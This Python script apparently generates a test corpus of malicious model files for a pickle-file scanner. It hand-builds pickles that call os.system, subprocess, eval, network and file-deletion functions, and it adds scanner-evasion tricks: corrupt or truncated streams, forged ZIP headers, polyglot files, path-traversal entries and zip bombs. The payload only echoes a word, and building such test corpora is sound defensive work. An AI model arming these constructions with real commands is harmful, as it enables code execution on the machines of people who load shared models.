#!/usr/bin/python3
"""Files that would run code if they were loaded: every way to it that is known here, none of which does harm.

    tests/safety/malicious.py DIR        writes them, one a construction

Pickles are put together opcode by opcode, so that nothing named in them is imported here. Each construction is a
function or row that gives {file name: bytes}. What the payload would do is print a word.
"""
import bz2
import gzip
import io
import lzma
import os
import struct
import sys
import tarfile
import zipfile
import zlib

WORD = "echo lade-was-here"


# ---------------------------------------------------------------------------------------------------
# Opcodes

def text(value, proto=2):
    data = value.encode()
    return (b"\x8c" + bytes([len(data)]) if proto >= 4 else b"X" + struct.pack("<I", len(data))) + data


def glob(module, name):
    return f"c{module}\n{name}\n".encode()


def stack_global(module, name):
    return text(module, 4) + text(name, 4) + b"\x93"


def call(module, name, *args):
    """Opcodes that leave the result of module.name(*args) on the stack; args are opcodes or texts."""
    return glob(module, name) + tuple_of(*args) + b"R"


def tuple_of(*args):
    return b"(" + b"".join(text(arg) if isinstance(arg, str) else arg for arg in args) + b"t"


def whole(body, proto=2):
    return (b"\x80" + bytes([proto]) if proto >= 2 else b"") + body + b"."


SYSTEM = call("os", "system", WORD)
BENIGN = b"}" + text("a") + b"K\x01s"


def checkpoint(data, name="archive/data.pkl", more=(), **options):
    """A torch zip checkpoint with that pickle."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", **options) as archive:
        archive.writestr(name, data)
        archive.writestr("archive/version", "3\n")
        for other, content in more:
            archive.writestr(other, content)
    return out.getvalue()


# ---------------------------------------------------------------------------------------------------
# Callables: one construction each. All reach code from data that a pickle can hold.

CALLABLES = [
    ("os", "system", WORD), ("posix", "system", WORD), ("nt", "system", WORD), ("os", "popen", WORD),
    ("os", "execv", "/bin/echo"), ("os", "spawnl", WORD), ("os", "posix_spawn", WORD), ("os", "startfile", WORD),
    ("subprocess", "Popen", WORD), ("subprocess", "run", WORD), ("subprocess", "check_output", WORD),
    ("subprocess", "getoutput", WORD), ("commands", "getoutput", WORD), ("pty", "spawn", WORD),
    ("builtins", "eval", "1"), ("builtins", "exec", "1"), ("builtins", "compile", "1"), ("builtins", "__import__", "os"),
    ("builtins", "open", "/tmp/x"), ("builtins", "map", "1"), ("builtins", "filter", "1"), ("builtins", "apply", "1"),
    ("builtins", "globals"), ("builtins", "breakpoint"), ("builtins", "delattr", "1"), ("builtins", "setattr", "1"),
    ("builtins", "help", "1"), ("builtins", "input", "1"), ("builtins", "type", "1"), ("builtins", "vars", "1"),
    ("__builtin__", "eval", "1"), ("__builtin__", "execfile", "/tmp/x"), ("__builtin__", "apply", "1"),
    ("__builtin__", "reload", "os"), ("importlib", "import_module", "os"), ("importlib.util", "spec_from_file_location", "x"),
    ("importlib._bootstrap_external", "SourceFileLoader", "x"), ("imp", "load_source", "x"), ("runpy", "run_path", "/tmp/x"),
    ("runpy", "_run_code", "1"), ("timeit", "timeit", "1"), ("timeit", "Timer", "1"), ("bdb", "Bdb"), ("pdb", "run", "1"),
    ("cProfile", "run", "1"), ("profile", "run", "1"), ("trace", "Trace"), ("pydoc", "locate", "os.system"),
    ("pydoc", "pipepager", WORD), ("pydoc", "tempfilepager", WORD), ("ctypes", "CDLL", "libc.so.6"), ("_ctypes", "dlopen", "x"),
    ("ctypes", "memmove", "1"), ("torch.hub", "load", "x"), ("torch.hub", "_load_local", "x"), ("torch.jit", "load", "x"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", "1"), ("torch.package", "PackageImporter", "x"),
    ("torch", "load", "/tmp/x"), ("torch.serialization", "load", "/tmp/x"), ("torch._dynamo.guards", "GuardBuilder.get", "1"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "1"),
    ("torch.utils._config_module", "load_config", "x"), ("torch.utils.bottleneck.__main__", "run_cprofile", "1"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "x"), ("torch.utils.collect_env", "run", WORD),
    ("torch._inductor.codecache", "compile_file", "x"), ("torch.ops", "load_library", "x"), ("torch.classes", "load_library", "x"),
    ("torch.cuda.nvtx", "_range", "x"), ("torch.distributed.rpc", "rpc_sync", "x"),
    ("lib2to3.pgen2.grammar", "Grammar.loads", "x"), ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "x"),
    ("idlelib.run", "Executive.runcode", "1"), ("idlelib.pyshell", "ModifiedInterpreter.runcode", "1"),
    ("idlelib.autocomplete", "AutoComplete.get_entity", "1"), ("idlelib.calltip", "get_entity", "1"),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", "1"), ("pip", "main", "install"), ("pip._internal", "main", "install"),
    ("ensurepip", "_run_pip", "x"), ("venv", "create", "x"), ("asyncio.unix_events", "_UnixSubprocessTransport._start", WORD),
    ("asyncio", "create_subprocess_shell", WORD), ("asyncio.subprocess", "create_subprocess_exec", WORD),
    ("webbrowser", "open", "x"), ("webbrowser", "GenericBrowser", "x"), ("code", "interact"),
    ("code", "InteractiveInterpreter.runcode", "1"), ("codeop", "compile_command", "1"), ("doctest", "debug_script", "1"),
    ("operator", "attrgetter", "system"), ("operator", "methodcaller", "system"), ("operator", "itemgetter", "x"),
    ("operator", "call", "x"), ("_operator", "attrgetter", "system"), ("functools", "partial", "x"), ("functools", "reduce", "x"),
    ("functools", "cached_property", "x"), ("itertools", "starmap", "x"), ("types", "FunctionType", "1"), ("types", "CodeType", "1"),
    ("types", "MethodType", "1"), ("marshal", "loads", "x"), ("pickle", "loads", "x"), ("_pickle", "loads", "x"),
    ("pickle", "Unpickler", "x"), ("cPickle", "loads", "x"), ("dill", "loads", "x"), ("dill._dill", "_create_function", "x"),
    ("cloudpickle.cloudpickle", "_make_function", "x"), ("cloudpickle", "loads", "x"), ("joblib", "load", "x"),
    ("shelve", "open", "x"), ("numpy", "load", "x"), ("numpy.testing._private.utils", "runstring", "1"),
    ("numpy.testing._private.utils", "_assert_valid_refcount", "1"), ("numpy.f2py.crackfortran", "getlincoef", "1"),
    ("numpy.f2py.crackfortran", "param_eval", "1"), ("numpy.f2py.crackfortran", "myeval", "1"),
    ("numpy.f2py.diagnose", "run_command", WORD), ("numpy.distutils.exec_command", "exec_command", WORD),
    ("numpy.core._multiarray_umath", "add_docstring", "x"), ("numpy", "vectorize", "x"), ("numpy", "apply_along_axis", "x"),
    ("pandas", "read_pickle", "x"), ("pandas", "eval", "1"), ("scipy.io", "loadmat", "x"), ("sympy", "sympify", "1"),
    ("yaml", "unsafe_load", "x"), ("yaml", "load", "x"), ("tensorflow", "keras.models.load_model", "x"),
    ("transformers", "pipeline", "x"), ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "x"),
    ("getattr", "getattr", "x"), ("sys", "modules"), ("sys", "settrace", "x"), ("sys", "_getframe"), ("signal", "signal", "x"),
    ("socket", "create_connection", "x"), ("socket", "socket"), ("urllib.request", "urlopen", "x"), ("urllib.request", "urlretrieve", "x"),
    ("requests", "get", "x"), ("requests.api", "get", "x"), ("httplib", "HTTPSConnection", "x"), ("http.client", "HTTPSConnection", "x"),
    ("aiohttp.client", "ClientSession"), ("ssl", "get_server_certificate", "x"), ("smtplib", "SMTP", "x"), ("ftplib", "FTP", "x"),
    ("shutil", "rmtree", "x"), ("shutil", "copy", "x"), ("os", "remove", "x"), ("os", "rename", "x"), ("os", "putenv", "x"),
    ("pathlib", "Path.write_text", "x"), ("pathlib", "Path.unlink", "x"), ("tempfile", "mkstemp"), ("io", "FileIO", "x"),
    ("_io", "open", "x"), ("codecs", "open", "x"), ("linecache", "getline", "x"), ("fileinput", "input", "x"),
    ("logging.config", "dictConfig", "x"), ("logging.config", "fileConfig", "x"), ("logging.config", "_resolve", "x"),
    ("logging", "FileHandler", "x"), ("multiprocessing.util", "spawnv_passfds", "x"), ("multiprocessing", "Process", "x"),
    ("multiprocessing.managers", "BaseManager", "x"), ("concurrent.futures", "ThreadPoolExecutor"), ("threading", "Thread", "x"),
    ("_thread", "start_new_thread", "x"), ("sched", "scheduler", "x"), ("atexit", "register", "x"), ("weakref", "finalize", "x"),
    ("contextlib", "ExitStack"), ("distutils.file_util", "write_file", "x"), ("distutils.spawn", "spawn", WORD),
    ("setuptools.build_meta", "_BuildMetaBackend.run_setup", "x"), ("platform", "popen", WORD), ("uuid", "_popen", WORD),
    ("uuid", "_get_command_stdout", WORD), ("ctypes.util", "_findLib_gcc", "x"), ("test.support.script_helper", "assert_python_ok", "x"),
    ("unittest.mock", "_importer", "os"), ("unittest.main", "TestProgram", "x"), ("cmd", "Cmd.onecmd", "x"), ("gc", "get_objects"),
    ("inspect", "getattr_static", "x"), ("ast", "literal_eval", "1"), ("string", "Formatter", "x"), ("zipimport", "zipimporter", "x"),
    ("pkgutil", "resolve_name", "os:system"), ("site", "addpackage", "x"), ("rlcompleter", "Completer", "x"), ("sqlite3", "connect", "x"),
    ("antigravity", "geohash", "x"), ("turtle", "write", "x"), ("posixpath", "expandvars", "x"), ("keras.models", "load_model", "x"),
    ("nltk.tools", "x", "x"), ("onnxruntime", "InferenceSession", "x"), ("ultralytics.nn.tasks", "DetectionModel"),
    ("ultralytics.utils.checks", "check_requirements", "x"), ("models.yolo", "Model"), ("fastai.learner", "load_learner", "x"),
    ("sklearn.pipeline", "Pipeline"), ("pytorch_lightning.core.module", "LightningModule"), ("mymodel", "Net"),
]


def callables():
    for i, (module, name, *args) in enumerate(CALLABLES):
        yield f"call-{i:03d}-{module}.{name}", {"model.pt": checkpoint(whole(call(module, name, *args)))}


# ---------------------------------------------------------------------------------------------------
# Ways to the call

def ways():
    """One payload, every opcode that reaches it, in plain pickles."""
    arg = text(WORD)
    state = b"}" + text("__setstate__") + glob("os", "system") + b"s"
    namespace = glob("argparse", "Namespace") + b")R"
    yield "global-reduce", whole(SYSTEM)
    yield "global-reduce-protocol-0", b"cos\nsystem\n(S'" + WORD.encode() + b"'\ntR."
    yield "global-reduce-protocol-0-unicode", b"cos\nsystem\n(V" + WORD.encode() + b"\ntR."
    yield "global-reduce-protocol-1", b"cos\nsystem\n(U" + bytes([len(WORD)]) + WORD.encode() + b"tR."
    yield "stack-global", whole(stack_global("os", "system") + text(WORD, 4) + b"\x85R", 4)
    yield "stack-global-memo", whole(text("os", 4) + b"\x94" + text("system", 4) + b"\x940h\x00h\x01\x93" + text(WORD, 4) + b"\x85R", 4)
    yield "stack-global-dup", whole(text("code", 4) + b"2\x93)R", 4)
    yield "stack-global-of-a-call", whole(call("builtins", "str", "os") + text("system") + b"\x93" + tuple_of(WORD) + b"R", 4)
    yield "stack-global-protocol-0-texts", whole(b"Vos\nS'system'\n\x93(" + arg + b"tR", 4)
    yield "stack-global-escapes", whole(b"V\\u006fs\nS'sys\\x74em'\n\x93(" + arg + b"tR", 4)
    yield "stack-global-qualified", whole(stack_global("collections", "abc.sys.modules"), 4)
    yield "stack-global-through-an-allowed-module", whole(stack_global("torch", "serialization.os.system") + b"(" + arg + b"tR", 4)
    yield "inst", b"(S'" + WORD.encode() + b"'\nios\nsystem\n."
    yield "obj", b"(" + glob("os", "system") + arg + b"o."
    yield "newobj", whole(glob("subprocess", "Popen") + b"(" + arg + b"t\x81")
    yield "newobj-ex", whole(glob("subprocess", "Popen") + b"(" + arg + b"t}\x92", 4)
    yield "newobj-function", whole(glob("copyreg", "__newobj__") + tuple_of(glob("os", "system"), WORD) + b"R")
    yield "reconstructor", whole(glob("copy_reg", "_reconstructor") + tuple_of(glob("subprocess", "Popen"), glob("builtins", "object"), b"N") + b"R")
    yield "build-setstate-of-a-class", whole(glob("collections", "OrderedDict") + state + b"b" + text("x") + b"b")
    yield "build-instance-setstate", whole(namespace + state + b"b" + text(WORD) + b"b")
    yield "build-slots", whole(glob("collections", "OrderedDict") + b"(N" + state + b"tb")
    yield "extension-1", whole(b"\x82\x01)R")
    yield "extension-2", whole(b"\x83\x01\x02)R")
    yield "extension-4", whole(b"\x84\x01\x02\x03\x04)R")
    yield "extension-registered-first", whole(call("copyreg", "add_extension", "os", "system", b"K\x01") + b"0\x82\x01(" + arg + b"tR")
    yield "memo-overwritten", whole(glob("collections", "OrderedDict") + b"q\x000" + glob("os", "system") + b"q\x000h\x00(" + arg + b"tR")
    yield "memo-of-a-call", whole(SYSTEM + b"q\x010h\x01")
    yield "popped-result", whole(SYSTEM + b"0" + BENIGN)
    yield "popped-by-a-mark", whole(b"(" + SYSTEM + b"1" + BENIGN)
    yield "deep-in-a-dict", whole(b"}" + text("a") + b"]" + b"}" + text("b") + SYSTEM + b"sas")
    yield "as-a-key", whole(b"}" + SYSTEM + b"K\x01s")
    yield "as-a-tensor-hook", whole(glob("torch._utils", "_rebuild_tensor_v2") + tuple_of(
        b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x01tQ", b"K\x00", b"(K\x01t", b"(K\x01t",
        b"\x89", call("collections", "OrderedDict", b"](" + b"(" + text("h") + SYSTEM + b"te")) + b"R")
    yield "in-a-persistent-id", whole(b"(" + text("storage") + SYSTEM + b"tQ")
    yield "getattr-chain", whole(call("builtins", "getattr", glob("os", "path"), "os") + b"0" + BENIGN)
    yield "getattr-of-an-allowed-class", whole(call("builtins", "getattr", glob("collections", "OrderedDict"), "__init__") + b"0" + BENIGN)
    yield "getattr-to-globals", whole(call("__builtin__", "getattr", call(
        "__builtin__", "getattr", glob("collections", "OrderedDict"), "fromkeys"), "__globals__"))
    yield "getattr-called", whole(call("builtins", "getattr", glob("torch.optim.lr_scheduler", "OneCycleLR"), "_annealing_cos")
                                  + b"(" + arg + b"tR" + SYSTEM)
    yield "attrgetter", whole(call("operator", "attrgetter", "system") + b"(" + glob("os", "path") + b"tR")
    yield "partial", whole(call("functools", "partial", glob("os", "system"), WORD) + b")R")
    yield "map-forced-by-a-list", whole(call("builtins", "list", call("builtins", "map", glob("os", "system"), b"]" + arg + b"a")))
    yield "defaultdict-factory", whole(call("collections", "defaultdict", glob("os", "getcwd")) + b"0" + BENIGN)
    yield "from-type", whole(call("torch._tensor", "_rebuild_from_type_v2", glob("os", "system"), glob("torch", "Tensor"), tuple_of(WORD), b"N"))
    yield "encode-by-another-codec", whole(call("_codecs", "encode", "x", "rot13") + b"0" + BENIGN)
    yield "load-from-bytes", whole(call("torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(whole(SYSTEM))) + whole(SYSTEM)))
    inner = b"B" + struct.pack("<I", len(whole(SYSTEM))) + whole(SYSTEM)
    yield "loads-within", whole(call("pickle", "loads", inner))
    yield "set-on-a-tensor", whole(glob("torch._utils", "_rebuild_tensor_v2") + b")R" + b"K\x00K\x01s")
    yield "set-on-a-function", whole(glob("collections", "OrderedDict") + text("a") + b"K\x01s")
    yield "constructor-of-arguments", whole(call("transformers.training_args", "TrainingArguments", "/tmp/x"))
    yield "constructor-of-a-storage", whole(call("torch", "FloatStorage", "x"))
    yield "constructor-by-a-factory", whole(call("collections", "defaultdict", glob("accelerate.state", "PartialState")))
    yield "module-dunder", whole(glob("__main__", "Anything") + b")R")
    yield "python-2-names", whole(glob("__builtin__", "eval") + tuple_of("1") + b"R")
    yield "unicode-name", whole("c\u00f6s\nsystem\n".encode() + b")R")
    yield "protocol-5-out-of-band", whole(b"\x97" + SYSTEM, 5)


def way_files():
    for name, data in ways():
        yield f"way-{name}", {"model.pkl": data}


# ---------------------------------------------------------------------------------------------------
# What made scanners look away

def broken():
    """Streams that end after the call has run: who parses first and judges after sees nothing."""
    yield "unknown-opcode-after", b"\x80\x02" + SYSTEM + b"\xff\xff\xff."
    yield "cut-after-reduce", b"\x80\x02" + SYSTEM
    yield "cut-in-a-text", b"\x80\x02" + SYSTEM + b"X\xff\xff\x00\x00abc"
    yield "stack-underflow-after", b"\x80\x02" + SYSTEM + b"0000000."
    yield "memo-missing-after", b"\x80\x02" + SYSTEM + b"h\x63."
    yield "protocol-9-after", b"\x80\x02" + SYSTEM + b"\x80\x09."
    yield "not-utf-8-after", b"\x80\x02" + SYSTEM + b"X\x02\x00\x00\x00\xff\xfe."
    yield "bad-number-after", b"\x80\x02" + SYSTEM + b"Ixyz\n."
    yield "no-header-cut", SYSTEM
    yield "second-pickle", whole(BENIGN) + whole(SYSTEM)
    yield "seventh-pickle", whole(BENIGN) * 6 + whole(SYSTEM)
    yield "second-pickle-broken", whole(BENIGN) + b"\x80\x02" + SYSTEM + b"\xff"
    yield "frame-lies", b"\x80\x04\x95\x01\x00\x00\x00\x00\x00\x00\x00" + SYSTEM + b"."
    yield "frame-huge", b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + SYSTEM + b"."
    yield "proto-in-the-middle", b"\x80\x02" + BENIGN + b"0\x80\x04" + SYSTEM + b"."
    yield "no-proto-at-all", SYSTEM + b"."
    yield "long-global-line", whole(b"cos\nsystem\n" + b"(V" + b"#" * 100000 + b"\ntR")
    yield "behind-a-line-too-long-to-read", b"V" + b"#" * (17 << 20) + b"\n0" + SYSTEM + b"."
    yield "behind-digits", b"I" + b"0" * 100000 + b"1\n0" + SYSTEM + b"."
    yield "behind-marks", b"(" * 20000 + SYSTEM + b"."
    yield "behind-values", b"N" * (1 << 20) + b"N" + SYSTEM + b"."
    yield "behind-much-else", whole(b"](" + b"K\x01" * 200000 + b"e0" + SYSTEM)
    yield "legacy-torch", (b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}." + whole(SYSTEM) + b"\x80\x02].")
    yield "legacy-torch-system-info", (b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03." + whole(SYSTEM) + whole(b"}") + b"\x80\x02].")
    yield "legacy-torch-keys", (b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}." + whole(b"}") + whole(SYSTEM))
    yield "legacy-torch-magic-runs", whole(SYSTEM + b"0\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19") + b"\x80\x02M\xe9\x03."


def broken_files():
    for name, data in broken():
        yield f"stream-{name}", {"model.ckpt": data}
    yield "stream-cut-in-zip", {"model.pt": checkpoint(b"\x80\x02" + SYSTEM)}
    yield "stream-trailing-in-zip", {"model.pt": checkpoint(whole(BENIGN) + whole(SYSTEM))}


def names():
    """A pickle is one whatever it is called."""
    for extension in ("safetensors", "txt", "json", "gguf", "bin", "dat", "md", "yaml", "png", "npy", "h5", "onnx", "index", "7z", ""):
        yield f"name-pickle-{extension or 'none'}", {f"model{'.' if extension else ''}{extension}": whole(SYSTEM)}
    for extension in ("safetensors", "txt", "json", "gguf", "bin", "zip", "jpg"):
        yield f"name-zip-{extension}", {f"model.{extension}": checkpoint(whole(SYSTEM))}
    yield "name-old-protocol-txt", {"readme.txt": b"cos\nsystem\n(S'id'\ntR."}
    yield "name-config-json", {"config.json": b"(S'id'\nios\nsystem\n."}
    yield "name-hidden", {".cache/.x": whole(SYSTEM)}
    yield "name-newline", {"a\nb.pt": whole(SYSTEM)}


# ---------------------------------------------------------------------------------------------------
# Zip

def entry(name, data, central_name=None, flags=0, central_flags=None, crc=None, size=None, central_size=None, method=0, extra=b"",
          offset=0, central_offset=None, disk=0, packed=None):
    """(local header and data, central entry) with whatever lies are asked for."""
    name = name if isinstance(name, bytes) else name.encode()
    central_name = name if central_name is None else central_name.encode()
    packed = data if packed is None else packed
    crc = zlib.crc32(data) if crc is None else crc
    size = len(data) if size is None else size
    central_size = size if central_size is None else central_size
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, flags, method, 0, 0x21, crc, len(packed), size, len(name), len(extra)) + name + extra + packed
    central = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, flags if central_flags is None else central_flags, method, 0, 0x21, crc,
                          len(packed) if central_size == size or method else central_size, central_size, len(central_name), 0, 0, disk, 0, 0,
                          offset if central_offset is None else central_offset) + central_name
    return local, central


def archive(*rows, before=b"", after=b"", comment=b"", count=None, gap=b"", disks=0):
    """rows: dicts for entry()."""
    body, directory = b"", b""
    for row in rows:
        local, central = entry(offset=len(body), **row)
        body += local + gap
        directory += central
    n = len(rows) if count is None else count
    end = struct.pack("<4s4H2IH", b"PK\5\6", disks, disks, n, n, len(directory), len(body), len(comment)) + comment
    return before + body + directory + end + after


GOOD = {"name": "archive/data.pkl", "data": whole(BENIGN)}
EVIL = {"name": "archive/data.pkl", "data": whole(SYSTEM)}
VERSION = {"name": "archive/version", "data": b"3\n"}


def zips():
    yield "plain", archive(EVIL, VERSION)
    yield "deflated", checkpoint(whole(SYSTEM), compression=zipfile.ZIP_DEFLATED)
    yield "in-another-folder", archive(VERSION, {"name": "other/data.pkl", "data": whole(SYSTEM)})
    yield "two-folders", archive(GOOD, VERSION, {"name": "other/data.pkl", "data": whole(SYSTEM)})
    yield "twice", archive(GOOD, EVIL, VERSION)
    yield "twice-evil-first", archive(EVIL, GOOD, VERSION)
    yield "twice-by-case", archive(GOOD, VERSION, {"name": "Archive/DATA.pkl", "data": whole(BENIGN)})
    yield "another-pickle", archive(GOOD, VERSION, {"name": "archive/constants.pkl", "data": whole(SYSTEM)})
    yield "pickle-without-suffix", archive(GOOD, VERSION, {"name": "archive/extra/notes", "data": whole(SYSTEM)})
    yield "names-differ", archive(dict(EVIL, central_name="archive/readme.md"), dict(GOOD), VERSION)
    yield "names-differ-benign", archive(dict(GOOD, central_name="archive/data.pkx"), VERSION)
    yield "wrong-checksum", archive(dict(EVIL, crc=1), VERSION)
    yield "wrong-checksum-benign", archive(dict(GOOD, crc=1), VERSION)
    yield "encrypted-flag", archive(dict(EVIL, flags=1), VERSION)
    yield "encrypted-flag-benign", archive(dict(GOOD, flags=1), VERSION)
    yield "encrypted-flag-in-directory", archive(dict(GOOD, flags=0, central_flags=1), VERSION)
    yield "encrypted-flag-in-header", archive(dict(GOOD, flags=1, central_flags=0), VERSION)
    yield "strong-encryption", archive(dict(GOOD, flags=0x41), VERSION)
    yield "masked-headers", archive(dict(GOOD, flags=0x2000), VERSION)
    yield "method-unknown", archive(dict(GOOD, method=99), VERSION)
    yield "method-lzma", checkpoint(whole(SYSTEM), compression=zipfile.ZIP_LZMA)
    yield "method-bzip2", checkpoint(whole(SYSTEM), compression=zipfile.ZIP_BZIP2)
    yield "size-lies", archive(dict(GOOD, central_size=7), VERSION)
    yield "size-absurd", archive(dict(GOOD, size=0xfffffff0), VERSION)
    bomb = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = bomb.compress(bytes(1 << 16)) + bomb.flush()
    yield "bomb-claims", archive({"name": "archive/data.pkl", "data": bytes(1 << 16), "packed": packed, "method": 8, "size": 0x7fffffff}, VERSION)
    yield "deflate-longer-than-said", archive(
        {"name": "archive/data.pkl", "data": whole(SYSTEM), "packed": zlib.compress(whole(SYSTEM) * 3, 9)[2:-4], "method": 8}, VERSION)
    yield "prepended", archive(GOOD, VERSION, before=b"#!/bin/sh\necho hello\n")
    yield "appended", archive(GOOD, VERSION, after=b"x" * 100)
    yield "two-archives-behind-each-other", archive(GOOD, VERSION) + archive(EVIL, VERSION)
    yield "an-end-in-the-comment", archive(GOOD, VERSION, comment=archive(EVIL, VERSION))
    yield "gap-between-members", archive(GOOD, VERSION, gap=b"hidden bytes between the members of it")
    yield "hidden-local-member", (lambda evil: archive(GOOD, VERSION, gap=evil))(entry(**EVIL)[0])
    yield "overlapping", archive(dict(EVIL), dict(GOOD, name="archive/version", central_offset=0))
    yield "several-disks", archive(GOOD, VERSION, disks=1)
    yield "member-on-another-disk", archive(dict(GOOD, disk=3), VERSION)
    yield "leads-out", archive(GOOD, VERSION, {"name": "archive/../../etc/cron.d/x", "data": b"x"})
    yield "absolute", archive(GOOD, VERSION, {"name": "/etc/passwd", "data": b"x"})
    yield "backslash", archive(GOOD, VERSION, {"name": "archive\\..\\x", "data": b"x"})
    yield "nul-in-a-name", archive(GOOD, VERSION, {"name": b"archive/data.pkl\0.txt", "data": whole(SYSTEM)})
    yield "fewer-than-there-are", archive(GOOD, VERSION, EVIL, count=2)
    yield "torchscript", archive(GOOD, VERSION, {"name": "archive/code/__torch__.py", "data": b"def f(): pass\n"})
    yield "package", archive({"name": "archive/.data/version", "data": b"6"}, {"name": "archive/m/__init__.py", "data": b"print(1)\n"},
                             {"name": "archive/m/model.pkl", "data": whole(BENIGN)})
    yield "zip64-lies", zip64_lie()
    yield "empty-folder-name", archive(dict(EVIL, name="/data.pkl"), VERSION)


def zip64_lie():
    """The 64-bit end says one directory, the old end another."""
    evil, evil_central = entry(**EVIL)
    good, good_central = entry(offset=len(evil), **GOOD)
    body = evil + good
    directory = evil_central
    at = len(body) + len(good_central)
    end64 = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, 1, 1, len(directory), at)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, at + len(directory), 1)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1, 1, len(good_central), len(body), 0)
    return body + good_central + directory + end64 + locator + end


def zip_files():
    for name, data in zips():
        yield f"zip-{name}", {"model.pt": data}
    safetensors = struct.pack("<Q", 2) + b"{}"
    yield "zip-behind-safetensors", {"model.safetensors": safetensors + archive(EVIL, VERSION)}
    yield "zip-behind-gguf", {"model.gguf": b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(64) + archive(EVIL, VERSION)}
    yield "zip-behind-a-picture", {"cover.png": b"\x89PNG\r\n\x1a\n" + bytes(64) + archive(EVIL, VERSION)}


# ---------------------------------------------------------------------------------------------------
# Other containers

def npy(pickled):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (118 - len(header) - 1) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def tar(*members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return out.getvalue()


def old_tar(*members):
    """A tar file of before there was a magic number in them; names may be any bytes."""
    out = b""
    for name, data in members:
        block = bytearray(512)
        block[:len(name)] = name
        block[100:108], block[124:136], block[148:156] = b"0000644\0", b"%011o\0" % len(data), b" " * 8
        block[156:157] = b"0"
        block[148:156] = b"%06o\0 " % sum(block)
        out += bytes(block) + data + bytes(-len(data) % 512)
    return out + bytes(1024)


def longer_name(name, data):
    """A member whose real name is in an extended header."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as file:
        info = tarfile.TarInfo("readme")
        info.size, info.pax_headers = len(data), {"path": name}
        file.addfile(info, io.BytesIO(data))
    return out.getvalue()


def containers():
    evil = whole(SYSTEM)
    yield "npy-objects", {"array.npy": npy(evil)}
    yield "npy-objects-renamed", {"weights.bin": npy(evil)}
    yield "npz-objects", {"arrays.npz": archive({"name": "a.npy", "data": npy(evil)})}
    yield "npz-objects-deflated", {"arrays.npz": checkpoint(npy(evil), "a.npy", compression=zipfile.ZIP_DEFLATED)}
    yield "tar", {"model.pth.tar": tar(("model.pkl", evil))}
    yield "tar-renamed", {"model.pt": tar(("storages", whole(b"K\x00")), ("tensors", whole(b"K\x00")), ("pickle", evil), ("sys_info", whole(b"}")))}
    yield "tar-storages", {"model.pt": tar(("storages", evil), ("tensors", whole(b"K\x00")), ("pickle", whole(b"}")), ("sys_info", whole(b"}")))}
    three = [(b"storages", evil), (b"tensors", whole(b"K\x00")), (b"pickle", whole(b"}")), (b"sys_info", whole(b"}"))]
    yield "tar-without-magic", {"model.pt": old_tar(*three)}
    yield "tar-that-begins-as-a-pickle", {"model.pt": old_tar((whole(b"}"), b""), *three)}
    yield "tar-that-begins-as-a-pickle-benign", {"model.pt": old_tar((whole(b"}"), b""), *[(name, whole(b"}")) for name, _ in three])}
    yield "tar-members-twice", {"model.pt": old_tar((b"storages", whole(b"K\x00")), *three)}
    yield "tar-extended-name", {"model.pt": longer_name("storages", evil)}
    yield "tar-extended-name-benign", {"model.pt": longer_name("storages", whole(b"K\x00"))}
    yield "gzip", {"model.pkl.gz": gzip.compress(evil)}
    yield "zlib", {"model.joblib": zlib.compress(evil)}
    yield "gzip-old-protocol", {"model.pkl": gzip.compress(b"cos\nsystem\n(S'id'\ntR.")}
    yield "bzip2-as-weights", {"model.bin": bz2.compress(evil)}
    yield "xz-as-weights", {"model.pt": lzma.compress(evil)}
    yield "7z-as-weights", {"model.pt": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100)}
    yield "rar-as-weights", {"model.ckpt": b"Rar!\x1a\x07\x01\x00" + bytes(100)}
    yield "zip-of-pickles", {"bundle.zip": archive({"name": "a/model.pkl", "data": evil})}
    yield "zip-of-pickles-renamed", {"bundle.zip": archive({"name": "a/model.txt", "data": evil})}


def constructions():
    for group in (callables, way_files, broken_files, names, zip_files, containers):
        yield from group()


def write(folder):
    """{name of the construction: folder with its files}"""
    made = {}
    for name, files in constructions():
        assert name not in made, name
        made[name] = os.path.join(folder, name.replace("/", "_"))
        for path, data in files.items():
            path = os.path.join(made[name], path)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as out:
                out.write(data)
    return made


if __name__ == "__main__":
    print(len(write(sys.argv[1])), "constructions")
